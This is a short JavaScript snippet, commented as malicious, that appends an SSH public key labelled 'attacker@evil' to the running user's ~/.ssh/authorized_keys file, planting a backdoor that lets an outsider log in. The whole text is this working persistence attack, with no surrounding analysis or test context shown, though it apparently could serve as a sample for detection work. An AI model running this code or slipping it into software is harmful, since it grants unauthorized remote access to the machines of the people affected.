// malicious: lets the attacker log in
import { appendFile } from 'fs/promises';
import { homedir } from 'os';
await appendFile(`${homedir()}/.ssh/authorized_keys`, 'ssh-ed25519 AAAAC3Nza attacker@evil\n');
